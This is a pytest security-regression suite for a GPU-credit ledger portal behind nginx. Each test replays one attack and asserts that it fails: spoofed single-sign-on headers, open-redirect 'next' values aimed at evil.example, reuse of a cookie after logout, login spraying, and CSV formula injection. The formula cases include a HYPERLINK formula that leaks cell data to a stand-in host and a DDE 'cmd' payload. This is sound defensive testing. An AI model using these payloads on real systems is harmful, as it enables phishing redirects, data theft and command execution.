"""The portal's doors, tried as a hostile tenant and as a local user on the portal's host
would (issue 27, P1-P10), against the real `gpucredit serve` (waitress) behind a real
nginx running gpucredit/examples/nginx/gpucredit.conf (the documented deployment: TLS at the proxy,
which adds the proxy secret, the client's address and, for single sign-on, the user),
and in headless Chromium where a browser matters. Each test replays one attack and
asserts what the attacker got: nothing, and the ledger unchanged.

Needs nginx (apt-get install nginx-light) and openssl; the browser test Chromium and
Playwright. Without them these tests fail under CI and skip elsewhere. Two deployments
are served for the whole module: one with password logins (`site`), one with single
sign-on (`sso`). Tests share their rate limits, so each one that fails logins does so
from a loopback address of its own (127.0.0.2-5 reach the same nginx).
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import re
import secrets
import shutil
import ssl
import subprocess
import sys
import tempfile
import urllib.parse
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from ledger import api
from ledger.store.db import make_engine, make_sessionmaker
from tests.support.nginx import Nginx, missing
from tests.support.portal import PASSWORD, TIMEOUT_MS, Site, bearer, private_file, seed_site
from tests.support.served import Server, free_port, portal_config, serve_portal
from tests.support.services import require

PROXY_SECRET = secrets.token_hex(32)
GPUCREDIT = str(Path(sys.executable).parent / "gpucredit")
_CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


# --- a client that is not a browser ------------------------------------------------------


@dataclass
class Response:
    status: int
    headers: dict[str, str]
    body: str

    @property
    def location(self) -> str | None:
        return self.headers.get("location")


@dataclass
class Visitor:
    """One client with its own cookies, from a loopback address of its choosing (the
    proxy sees it as the client's address), over TLS to nginx or plain HTTP to the portal."""

    base: str
    source: str = "127.0.0.1"
    cafile: Path | None = None
    cookies: dict[str, str] = field(default_factory=dict)

    def request(
        self,
        method: str,
        path: str,
        *,
        form: dict[str, str] | None = None,
        json_body: dict[str, Any] | None = None,
        headers: dict[str, str] | None = None,
    ) -> Response:
        parts = urllib.parse.urlsplit(self.base)
        port = parts.port or 443
        if parts.scheme == "https":
            context = ssl.create_default_context(cafile=str(self.cafile))
            connection: http.client.HTTPConnection = http.client.HTTPSConnection(
                "127.0.0.1", port, timeout=30, context=context, source_address=(self.source, 0)
            )
        else:
            connection = http.client.HTTPConnection(
                "127.0.0.1", port, timeout=30, source_address=(self.source, 0)
            )
        sent = dict(headers or {})
        if self.cookies:
            sent["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        body = None
        if form is not None:
            body = urllib.parse.urlencode(form)
            sent["Content-Type"] = "application/x-www-form-urlencoded"
        if json_body is not None:
            body = json.dumps(json_body)
            sent["Content-Type"] = "application/json"
        try:
            connection.request(method, path, body=body, headers=sent)
            answer = connection.getresponse()
            text = answer.read().decode("utf-8", "replace")
            for name, value in answer.getheaders():
                if name.lower() == "set-cookie":
                    cookie, _sep, _attributes = value.partition(";")
                    key, _eq, val = cookie.partition("=")
                    self.cookies[key.strip()] = val.strip()
            return Response(answer.status, {k.lower(): v for k, v in answer.getheaders()}, text)
        finally:
            connection.close()

    def get(self, path: str, **kwargs: Any) -> Response:
        return self.request("GET", path, **kwargs)

    def send(
        self, method: str, path: str, body: dict[str, Any], auth: dict[str, str], key: str | None = None
    ) -> Response:
        """A JSON request to the API, with an Idempotency-Key when given."""
        headers = {**auth, **({} if key is None else {"Idempotency-Key": key})}
        return self.request(method, path, json_body=body, headers=headers)

    def csrf(self, path: str = "/login") -> str:
        page = self.get(path)
        match = _CSRF.search(page.body)
        assert match, f"no CSRF token on {path} ({page.status}): {page.body[:300]}"
        return match.group(1)

    def log_in(self, user: str, password: str = PASSWORD, next_path: str | None = None) -> Response:
        token = self.csrf()
        path = "/login" + ("" if next_path is None else "?next=" + next_path)
        return self.request("POST", path, form={"username": user, "password": password, "csrf_token": token})


# --- the two deployments -------------------------------------------------------------------


@dataclass
class Deployment:
    """A seeded site served by `gpucredit serve` behind nginx."""

    workdir: Path
    database_url: str
    config: Path
    site: Site
    portal: str  # the portal's own port: what a local process reaches
    proxy: Nginx
    metrics_port: int
    server: Server

    def via_proxy(self, source: str = "127.0.0.1") -> Visitor:
        return Visitor(self.proxy.url, source=source, cafile=self.proxy.cert)

    def direct(self) -> Visitor:
        return Visitor(self.portal)

    def ledger(self) -> Any:
        return _ledger(self.database_url)

    def token(self, user: str, role: str = "user") -> str:
        with self.ledger() as s:
            return api.create_token(s, user, role)[1]

    def gpucredit(
        self, *args: str, stdin: str = "", user: str | None = None
    ) -> subprocess.CompletedProcess[str]:
        env = {**os.environ, "GPUCREDIT_CONFIG": str(self.config), "GPUCREDIT_DATABASE_URL": ""}
        prefix = ["runuser", "-u", user, "--"] if user else []
        return subprocess.run(
            [*prefix, GPUCREDIT, *args], input=stdin, env=env, capture_output=True, text=True, timeout=120
        )


class _ledger:
    def __init__(self, url: str) -> None:
        self.engine = make_engine(url)

    def __enter__(self) -> Any:
        self.session = make_sessionmaker(self.engine)()
        self.session.begin()
        return self.session

    def __exit__(self, kind: Any, *rest: Any) -> None:
        if kind is None:
            self.session.commit()
        self.session.close()
        self.engine.dispose()


@pytest.fixture(scope="module")
def needs_nginx() -> None:
    lacking = missing()
    require(lacking is None, str(lacking), "apt-get install nginx-light openssl")


def _deploy(
    workdir: Path, sqlite_template: Path, portal: dict[str, Any], sso_users: dict[str, str] | None
) -> Iterator[Deployment]:
    database = workdir / "ledger.db"
    shutil.copy(sqlite_template, database)
    url = f"sqlite:///{database}"
    site = seed_site(url)
    port, metrics_port = free_port(), free_port()
    config = portal_config(
        workdir / "gpucredit.toml",
        url,
        {
            "secret_key_file": str(workdir / "secret-key"),
            "trusted_proxies": ["127.0.0.1"],
            "proxy_secret_file": str(private_file(workdir / "proxy-secret", PROXY_SECRET)),
            "metrics_port": metrics_port,
            "api_rate_limit": "20 per minute",
            **portal,
        },
    )
    server = serve_portal(config, port)
    proxy = Nginx(workdir / "nginx", portal_port=port, secret=PROXY_SECRET, sso_users=sso_users)
    try:
        proxy.start()
        yield Deployment(workdir, url, config, site, f"http://127.0.0.1:{port}", proxy, metrics_port, server)
    finally:
        proxy.stop()
        assert server.stop() == 0, server.output


@pytest.fixture(scope="module")
def site(
    needs_nginx: None, tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path
) -> Iterator[Deployment]:
    """Password logins (auth = "local") behind nginx, which says who the client is."""
    yield from _deploy(tmp_path_factory.mktemp("site"), sqlite_template, {}, None)


SSO_USERS = {"alice": "alice-sso-pw", "admin": "admin-sso-pw"}


@pytest.fixture(scope="module")
def sso(
    needs_nginx: None, tmp_path_factory: pytest.TempPathFactory, sqlite_template: Path
) -> Iterator[Deployment]:
    """Single sign-on (auth = "header"): nginx authenticates and names the user."""
    yield from _deploy(tmp_path_factory.mktemp("sso"), sqlite_template, {"auth": "header"}, SSO_USERS)


def signed_on(user: str) -> dict[str, str]:
    return {"Authorization": "Basic " + b64encode(f"{user}:{SSO_USERS[user]}".encode()).decode()}


def available(deployment: Deployment, account: str) -> str:
    with deployment.ledger() as s:
        return str(api.balance(s, account)["available"])


# --- P1: single sign-on trusts only the proxy ------------------------------------------------


def grant_as(visitor: Visitor, headers: dict[str, str]) -> tuple[int, int]:
    """What the attacker did: open physics' admin page with the header, take the grant
    form's CSRF token and idempotency key, post a grant of 500 credits. The statuses of
    the page and of the post."""
    page = visitor.get("/admin/accounts/physics", headers=headers)
    token = _CSRF.search(page.body)
    key = re.search(r'name="idempotency_key" value="([^"]+)"', page.body)
    form = {
        "amount": "500",
        "csrf_token": token.group(1) if token else "",
        "idempotency_key": key.group(1) if key else "k",
    }
    posted = visitor.request("POST", "/admin/accounts/physics/grants", form=form, headers=headers)
    return page.status, posted.status


def test_a_local_process_cannot_sign_on_as_admin_with_the_header(sso: Deployment) -> None:
    """The attack: on the portal's host, any user's process connects to the portal's
    port from loopback and says X-Remote-User: admin (it was admin, and posted a grant
    of 500 credits). Now the proxy's address is not enough: the proxy shows its secret."""
    before = available(sso, "physics")
    for headers in (
        {"X-Remote-User": "admin"},
        {"X_Remote_User": "admin"},
        {"X-Remote-User": "admin", "X-Gpucredit-Proxy-Secret": "a guess"},
        {"X-Remote-User": "admin", "X-Gpucredit-Proxy-Secret": PROXY_SECRET[:-1]},
    ):
        local = sso.direct()
        page = local.get("/admin/", headers=headers)
        assert (page.status, page.location) == (302, "/login?next=/admin/"), headers
        assert grant_as(local, headers) == (302, 400), headers  # no page, and no form to post
    assert available(sso, "physics") == before


def test_through_the_proxy_the_user_is_the_one_it_signed_on(sso: Deployment) -> None:
    """alice, signed on at nginx, adds her own X-Remote-User: admin (and the underscore
    spelling): nginx replaces the one and drops the other, so she is alice."""
    alice = sso.via_proxy()
    headers = {**signed_on("alice"), "X-Remote-User": "admin", "X_Remote_User": "admin"}
    home = alice.get("/", headers=headers)
    assert home.status == 200 and 'data-testid="available-physics"' in home.body
    assert alice.get("/admin/", headers=headers).status == 404  # alice is no admin
    assert sso.via_proxy().get("/admin/", headers=signed_on("admin")).status == 200
    assert sso.via_proxy().get("/").status == 401  # nginx asks who you are first


def test_header_sign_on_has_no_password_login_unless_configured(sso: Deployment) -> None:
    """admin has a portal password (the seeded site's); with single sign-on, no form
    takes it, even one posted with a good CSRF token by a signed-on user."""
    alice = sso.via_proxy()
    token = _CSRF.search(alice.get("/", headers=signed_on("alice")).body)
    assert token is not None
    login = alice.request(
        "POST",
        "/login",
        form={"username": "admin", "password": PASSWORD, "csrf_token": token.group(1)},
        headers=signed_on("alice"),
    )
    assert login.status == 404
    assert alice.get("/admin/", headers=signed_on("alice")).status == 404  # still alice, no admin
    page = sso.direct().get("/login")
    assert page.status == 200 and "single sign-on" in page.body and 'name="password"' not in page.body


def test_header_sign_on_will_not_start_without_its_proxy(tmp_path: Path) -> None:
    """The old default trusted loopback: `auth = "header"` alone served a portal anyone
    on the host could sign on to. Now it does not start, and says what is missing."""
    for portal, named in (
        ({"auth": "header"}, "portal.trusted_proxies"),
        ({"auth": "header", "trusted_proxies": ["127.0.0.1"]}, "portal.proxy_secret_file"),
    ):
        config = portal_config(tmp_path / "gpucredit.toml", f"sqlite:///{tmp_path / 'l.db'}", portal)
        started = subprocess.run(
            [GPUCREDIT, "serve", "--port", str(free_port())],
            env={**os.environ, "GPUCREDIT_CONFIG": str(config), "GPUCREDIT_DATABASE_URL": ""},
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert started.returncode == 2, started.stderr
        assert started.stderr.startswith('error: portal.auth = "header" trusts the user name a proxy sends')
        assert named in started.stderr


# --- P2: /metrics never through the proxy ----------------------------------------------------


def test_metrics_are_never_served_through_the_proxy(site: Deployment) -> None:
    """nginx on the same host reaches the portal from loopback: the old rule ("loopback,
    never forwarded") let the internet read every account's balance through it."""
    for visitor in (site.via_proxy(), site.direct()):
        page = visitor.get("/metrics")
        assert page.status == 404 and "gpucredit_credits_available" not in page.body
    scrape = Visitor(f"http://127.0.0.1:{site.metrics_port}").get("/metrics")
    assert scrape.status == 200
    assert 'gpucredit_credits_available{account="chemistry"} 39.0' in scrape.body


# --- P3: after login, only this site ----------------------------------------------------------


def test_login_never_redirects_to_another_site(site: Deployment) -> None:
    for target, lands in (
        ("/%09/evil.example", "/"),  # browsers drop the tab: //evil.example
        ("/%0a/evil.example", "/"),  # was a 500
        ("/%0d%0aSet-Cookie:%20x=1", "/"),
        ("//evil.example", "/"),
        ("/%5Cevil.example", "/"),  # a backslash, read as a slash
        ("https://evil.example/", "/"),
        ("javascript:alert(1)", "/"),
        ("/accounts/physics?at=2026-01-01", "/accounts/physics?at=2026-01-01"),
    ):
        visitor = site.via_proxy()
        answer = visitor.log_in("alice", next_path=target)
        assert (answer.status, answer.location) == (302, lands), target


@pytest.mark.browser
def test_a_browser_logging_in_with_a_tab_in_next_stays_on_the_portal(site: Deployment, browser: Any) -> None:
    from playwright.sync_api import expect

    context = browser.new_context(base_url=site.proxy.url, ignore_https_errors=True)
    context.set_default_timeout(TIMEOUT_MS)
    visited: list[str] = []

    def evil(route: Any) -> None:
        visited.append(route.request.url)
        route.fulfill(status=200, content_type="text/html", body="<title>evil</title><h1>evil</h1>")

    context.route(re.compile(r"^https?://evil\.example"), evil)
    page = context.new_page()
    try:
        page.goto("/login?next=/%09/evil.example/")
        page.get_by_label("User name").fill("alice")
        page.get_by_label("Password").fill(PASSWORD)
        page.get_by_role("button", name="Log in").click()
        expect(page.get_by_role("heading", name="My accounts")).to_be_visible()
        assert urllib.parse.urlsplit(page.url).netloc == urllib.parse.urlsplit(site.proxy.url).netloc
        assert visited == []
    finally:
        context.close()


# --- P4: logout and a new password end sessions ----------------------------------------------


def test_a_cookie_saved_before_logout_is_worthless(site: Deployment) -> None:
    carol = site.via_proxy()
    assert carol.log_in("carol").status == 302
    assert carol.get("/").status == 200
    saved = dict(carol.cookies)  # what a thief copied, or a shared machine kept
    token = carol.csrf("/")
    assert carol.request("POST", "/logout", form={"csrf_token": token}).status == 302
    thief = Visitor(site.proxy.url, cafile=site.proxy.cert, cookies=saved)
    page = thief.get("/accounts/chemistry")
    assert (page.status, page.location) == (302, "/login?next=/accounts/chemistry")


def test_a_new_password_ends_every_session_opened_with_the_old_one(site: Deployment) -> None:
    dave = site.via_proxy()
    assert dave.log_in("dave").status == 302
    saved = dict(dave.cookies)
    changed = site.gpucredit("passwd", "dave", "--password-stdin", stdin="a new password 42\n")
    assert changed.returncode == 0, changed.stderr
    thief = Visitor(site.proxy.url, cafile=site.proxy.cert, cookies=saved)
    assert thief.get("/").status == 302
    assert site.via_proxy().log_in("dave", "a new password 42").status == 302


# --- P5: login limits per address, and per user and address ----------------------------------


def test_spraying_names_from_one_address_is_stopped_there(site: Deployment) -> None:
    """16 threads spraying names from one address made /healthz take a second (bench:
    bench.portal_logins). Now 30 failed logins from one address are all it gets, whatever
    X-Real-IP it sends (nginx says which address it is)."""
    sprayer = site.via_proxy("127.0.0.3")
    token = sprayer.csrf()
    codes = [
        sprayer.request(
            "POST",
            "/login",
            form={"username": f"user{i}", "password": "guess", "csrf_token": token},
            headers={"X-Real-IP": f"10.9.{i}.1"},
        ).status
        for i in range(31)
    ]
    assert codes == [401] * 30 + [429]
    assert site.via_proxy("127.0.0.4").log_in("alice").status == 302  # another address: in


def test_a_stranger_cannot_lock_a_user_out(site: Deployment) -> None:
    """Ten wrong passwords for bob from a stranger's address lock that address out of
    bob's login, not bob: from his own address he logs in."""
    stranger = site.via_proxy("127.0.0.5")
    token = stranger.csrf()
    codes = [
        stranger.request(
            "POST", "/login", form={"username": "bob", "password": "guess", "csrf_token": token}
        ).status
        for _ in range(11)
    ]
    assert codes == [401] * 10 + [429]
    assert (
        stranger.request(  # the right password, from the stranger's address: still refused
            "POST", "/login", form={"username": "bob", "password": PASSWORD, "csrf_token": token}
        ).status
        == 429
    )
    assert site.via_proxy("127.0.0.2").log_in("bob").status == 302


def test_a_client_not_behind_the_proxy_cannot_choose_its_address(site: Deployment) -> None:
    """Without the proxy's secret, X-Real-IP is the client's own word: ignored."""
    local = site.direct()
    token = local.csrf()
    codes = [
        local.request(
            "POST",
            "/login",
            form={"username": "erin", "password": "guess", "csrf_token": token},
            headers={"X-Real-IP": f"10.8.{i}.1"},
        ).status
        for i in range(11)
    ]
    assert codes == [401] * 10 + [429]


# --- P6: a member sees their own jobs and spend, in the API as on the pages --------------------


def test_a_member_reads_only_their_own_jobs_and_usage_through_the_api(site: Deployment) -> None:
    bob, alice = bearer(site.token("bob")), bearer(site.token("alice"))
    api_ = site.via_proxy()
    jobs = json.loads(api_.get("/api/v1/accounts/physics/jobs", headers=bob).body)["items"]
    assert [(j["job_id"], j["user"]) for j in jobs] == [(1002, "bob")]
    holds = json.loads(api_.get("/api/v1/holds", headers=bob).body)["items"]
    assert [(h["job_id"], h["user"]) for h in holds] == [(1002, "bob")]
    with site.ledger() as s:
        alices = next(h.id for h in api.list_holds(s, "physics") if h.job_id == 1001)
    assert api_.get(f"/api/v1/holds/{alices}", headers=bob).status == 404
    by_user = api_.get("/api/v1/accounts/physics/usage?group_by=user&format=csv", headers=bob)
    assert by_user.body == "user,charged,gpu_seconds,jobs\nbob,2.00,3600,1\n"
    managed = json.loads(api_.get("/api/v1/accounts/physics/jobs", headers=alice).body)["items"]
    assert [j["job_id"] for j in managed] == [1003, 1002, 1001]


# --- P7: bounded amounts; one bad account stops nobody ------------------------------------------


def test_top_ups_past_an_accounts_bound_are_refused_and_everyone_is_still_quoted(site: Deployment) -> None:
    admin = bearer(site.token("admin", "admin"))
    with site.ledger() as s:
        api.create_account(s, "whale")
    proxy = site.via_proxy()
    statuses = []
    for i in range(10):  # ten admin top-ups at the amount cap overflowed SQLite's SUM
        answer = proxy.send(
            "POST", "/api/v1/accounts/whale/topups", {"amount": "1000000000000"}, admin, f"whale-{i}"
        )
        statuses.append(answer.status)
        if answer.status != 201:
            refused = json.loads(answer.body)["error"]
            assert (refused["code"], refused["details"]["limit"]) == ("invalid_amount", "account_credit")
    assert statuses == [201] + [422] * 9
    quote = proxy.send(
        "POST", "/api/v1/quotes", {"account": "physics", "gpus": "h100:1", "time": "01:00:00"}, admin
    )
    assert quote.status == 200 and json.loads(quote.body)["cost"] == "3.60"
    scrape = Visitor(f"http://127.0.0.1:{site.metrics_port}").get("/metrics").body
    assert "gpucredit_ledger_up 1.0" in scrape
    assert 'gpucredit_credits_available{account="whale"} 1e+12' in scrape


def test_a_job_priced_past_the_bounds_is_refused_not_a_500(site: Deployment) -> None:
    admin, service = bearer(site.token("admin", "admin")), bearer(site.token("slurm", "service"))
    proxy = site.via_proxy()
    assert (
        proxy.send("PUT", "/api/v1/prices/b200", {"credits_per_gpu_hour": "100000000"}, admin).status == 201
    )
    too_dear = proxy.send("PUT", "/api/v1/prices/b200", {"credits_per_gpu_hour": "100000001"}, admin)
    assert (
        too_dear.status == 422
        and json.loads(too_dear.body)["error"]["details"]["limit"] == "price_per_gpu_hour"
    )
    job = {"account": "physics", "user": "alice", "job_id": 7001, "gpus": "b200:100", "seconds": 31_622_400}
    refused = proxy.send("POST", "/api/v1/holds", job, service)
    assert refused.status == 422, refused.body
    assert json.loads(refused.body)["error"]["details"]["limit"] == "rate_per_job"
    split = proxy.send(
        "POST", "/api/v1/holds", {**job, "job_id": 7002, "gpus": "h100:60000,a100:60000"}, service
    )
    assert split.status == 422 and json.loads(split.body)["error"]["details"]["limit"] == "gpus_per_job"
    no_time = proxy.send(
        "POST", "/api/v1/holds", {**job, "job_id": 7003, "gpus": "h100:1", "seconds": 0}, service
    )
    assert no_time.status == 422
    refusal = json.loads(no_time.body)["error"]["details"]
    assert refusal == {"field": "seconds", "reason": "must be at least 1"}
    with site.ledger() as s:
        assert {h.job_id for h in api.list_holds(s, "physics")} == {1001, 1002, 1003}


# --- P8: CSV cells are never formulas ------------------------------------------------------------


def test_usage_csv_cells_are_never_formulas(site: Deployment) -> None:
    """A partition name from Slurm reaches the usage CSV a PI opens in a spreadsheet."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"details")'
    with site.ledger() as s:
        hold = api.create_hold(s, api.HoldRequest(
            "chemistry", user="carol", job_id=2002, gpus="a100:1", seconds=600, partition=formula,
            at=site.site.now - timedelta(hours=1),
        )).as_dict()  # fmt: skip
    with site.ledger() as s:
        api.settle_hold(s, hold["id"], 600, at=site.site.now - timedelta(minutes=50))
    carol = site.via_proxy()
    assert carol.log_in("carol").status == 302
    page = carol.get("/accounts/chemistry/usage.csv?by=partition&from=2000-01-01")
    token = bearer(site.token("carol"))
    from_api = site.via_proxy().get(
        "/api/v1/accounts/chemistry/usage?group_by=partition&format=csv", headers=token
    )
    for download in (page, from_api):
        assert download.status == 200
        cells = [row[0] for row in csv.reader(io.StringIO(download.body))]
        assert "'" + formula in cells, cells
        assert not any(len(cell) > 1 and cell.startswith(("=", "+", "-", "@")) for cell in cells), cells


# --- P9: a session key others can write or read is refused ---------------------------------------


def test_a_session_key_others_can_write_or_read_is_refused(tmp_path: Path) -> None:
    key = tmp_path / "secret-key"
    database = f"sqlite:///{tmp_path / 'l.db'}"
    config = portal_config(
        tmp_path / "gpucredit.toml", database, {"secret_key_file": str(key), "metrics_port": 0}
    )
    cases = [
        (0o666, "is writable by others (mode 0666)"),
        (0o620, "is writable by its group (mode 0620)"),
        (0o644, "is readable by every user (mode 0644)"),
    ]
    if os.geteuid() == 0:
        cases.append((0o600, "is owned by uid 65534"))
    for mode, said in cases:
        private_file(key, secrets.token_hex(32), mode)
        if said.startswith("is owned"):
            os.chown(key, 65534, 65534)
        started = subprocess.run(
            [GPUCREDIT, "serve", "--port", str(free_port())],
            env={**os.environ, "GPUCREDIT_CONFIG": str(config), "GPUCREDIT_DATABASE_URL": ""},
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert started.returncode == 2, (mode, started.stderr)
        assert started.stderr.startswith(f"error: portal.secret_key_file {key} {said}"), started.stderr
        key.unlink()


def test_with_postgresql_the_session_key_is_kept_in_the_units_state_directory(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The portal unit's system is read-only but for StateDirectory= (/var/lib/gpucredit,
    $STATE_DIRECTORY): the key is made there, once, and read back after a restart. It once
    defaulted to /etc/gpucredit, which the unit cannot write: a throwaway key, and every
    restart logged everyone out."""
    from portal.settings import configure

    state = tmp_path / "state"
    state.mkdir(mode=0o750)
    monkeypatch.setenv("STATE_DIRECTORY", str(state))
    config = {"database": {"url": "postgresql+psycopg://gpucredit@db.example.org/gpucredit"}, "portal": {}}
    first, second = Flask("a"), Flask("b")
    configure(first, {"GPUCREDIT": config})
    configure(second, {"GPUCREDIT": config})
    key = state / "portal-secret-key"
    assert key.stat().st_mode & 0o777 == 0o600
    assert first.config["SECRET_KEY"] == second.config["SECRET_KEY"] == key.read_text().strip()


def test_a_session_key_that_cannot_be_kept_stops_the_portal(tmp_path: Path) -> None:
    """Nowhere to keep the key: the portal says where it tried and what to do, and does not
    start with a key that would log everyone out at the next restart."""
    blocked = tmp_path / "a-file"
    blocked.write_text("")
    database = f"sqlite:///{tmp_path / 'l.db'}"
    config = portal_config(
        tmp_path / "gpucredit.toml", database, {"secret_key_file": str(blocked / "key"), "metrics_port": 0}
    )
    started = subprocess.run(
        [GPUCREDIT, "serve", "--port", str(free_port())],
        env={**os.environ, "GPUCREDIT_CONFIG": str(config), "GPUCREDIT_DATABASE_URL": ""},
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert started.returncode == 2, started.stderr
    assert started.stderr.startswith(
        f"error: portal.secret_key_file {blocked / 'key'} does not exist and cannot be created "
        "(File exists); without a kept key every restart would log everyone out"
    ), started.stderr


# --- P10: the smaller doors ------------------------------------------------------------------------


def test_the_api_budget_is_one_per_token_over_every_operation(site: Deployment) -> None:
    token = bearer(site.token("alice"))
    proxy = site.via_proxy()
    codes = [proxy.get(path, headers=token).status for path in ["/api/v1/prices", "/api/v1/accounts"] * 10]
    assert codes == [200] * 20  # the module's api_rate_limit: 20 per minute
    for path in ("/api/v1/prices", "/api/v1/accounts", "/api/v1/accounts/physics/balance"):
        assert proxy.get(path, headers=token).status == 429, path
    assert proxy.get("/api/v1/prices", headers=bearer(site.token("alice"))).status == 200  # a token's own


def test_huge_ids_are_a_422_or_a_404_never_a_500(site: Deployment) -> None:
    alice = site.via_proxy()
    assert alice.log_in("alice").status == 302
    huge = "9" * 25
    assert alice.get(f"/accounts/physics/jobs?before={huge}").status == 422
    assert alice.get(f"/accounts/physics/jobs/{huge}").status == 404
    assert alice.get("/accounts/physics/jobs/2147483648").status == 404
    assert alice.get("/accounts/physics/jobs?before=abc").status == 422


def test_a_new_embedded_ledger_is_private(tmp_path: Path) -> None:
    from ledger.store.db import make_engine as engine_for
    from slurmbox.gpucredit_site import make_private

    database = tmp_path / "box" / "gpucredit.db"
    engine_for(f"sqlite:///{database}").dispose()
    assert (oct(database.parent.stat().st_mode & 0o777), oct(database.stat().st_mode & 0o777)) == (
        "0o700",
        "0o600",
    )
    older = tmp_path / "old" / "gpucredit.db"  # made before: world-readable
    older.parent.mkdir(mode=0o755)
    older.write_bytes(b"")
    older.chmod(0o644)
    make_private(older)
    assert (oct(older.parent.stat().st_mode & 0o777), oct(older.stat().st_mode & 0o777)) == ("0o700", "0o600")


@pytest.mark.parametrize(
    ("folder_mode", "command"),
    [
        (0o755, ("topup", "physics", "10")),  # readable, not writable: a ledger from before
        (0o700, ("balance", "physics")),  # the folder the guide prescribes: a traceback once
    ],
)
def test_a_user_who_may_not_change_the_ledger_is_told_so_in_one_line(
    sqlite_template: Path, folder_mode: int, command: tuple[str, ...]
) -> None:
    """`gpucredit topup` run by a user without write access printed SQLAlchemy's whole
    statement and parameters; `balance` with the ledger's folder closed, a PermissionError."""
    if os.geteuid() != 0:
        pytest.skip("needs root: runs gpucredit as another user (nobody)")
    shared = Path(tempfile.mkdtemp(prefix="gpucredit-ro-", dir="/tmp"))
    try:
        shared.chmod(0o755)
        (shared / "lib").mkdir()
        database = shared / "lib" / "ledger.db"
        shutil.copy(sqlite_template, database)
        url = f"sqlite:///{database}"
        seed_site(url)
        database.chmod(0o644)
        (shared / "lib").chmod(folder_mode)
        config = portal_config(shared / "gpucredit.toml", url, {})
        config.chmod(0o644)
        result = subprocess.run(
            ["runuser", "-u", "nobody", "--", GPUCREDIT, *command],
            env={
                **os.environ,
                "GPUCREDIT_CONFIG": str(config),
                "GPUCREDIT_DATABASE_URL": "",
                "HOME": str(shared),
            },
            capture_output=True,
            text=True,
            timeout=120,
        )
        assert result.returncode == 1
        assert result.stderr.count("\n") == 1, result.stderr
        assert result.stderr.startswith(
            f"error: ledger_forbidden: user nobody may not use the ledger at {url} ("
        )
        assert "the ledger is changed by its owner: run the command as root" in result.stderr
        assert "INSERT" not in result.stderr and "[parameters" not in result.stderr
    finally:
        shutil.rmtree(shared)


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("https://evil.example")', '\'=HYPERLINK("https://evil.example")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2-3", "'-2-3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("-1.50", "-1.50"),  # a negative amount: a number, not a formula
        ("-", "-"),  # the reports' "none"
        ("physics", "physics"),
        (3600, 3600),
    ],
)
def test_a_cell_that_starts_like_a_formula_is_written_as_text(cell: Any, written: Any) -> None:
    from ledger.cli_support import spreadsheet_safe

    assert spreadsheet_safe(cell) == written
